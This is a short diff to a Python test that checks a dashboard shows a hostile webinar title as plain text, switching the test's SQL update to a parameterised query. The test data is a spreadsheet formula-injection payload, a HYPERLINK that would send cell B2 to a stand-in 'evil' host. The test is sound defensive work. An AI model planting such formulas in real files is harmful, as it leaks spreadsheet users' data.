@@ -107,7 +107,8 @@ def test_a_hostile_webinar_title_is_text_in_the_overview_table(tiny_db_file, mon
     from dashboard import database
 
     con = database.connect(tiny_db_file)
-    con.execute("""update events set title = '=HYPERLINK("http://evil/?leak="&B2,"Open agenda")' where event_key = 'w1'""")
+    hostile = '=HYPERLINK("http://evil/?leak="&B2,"Open agenda")'
+    con.execute("update events set title = $t where event_key = 'w1'", {"t": hostile})
     with database.transaction(con):
         database.refresh(con)
     con.close()
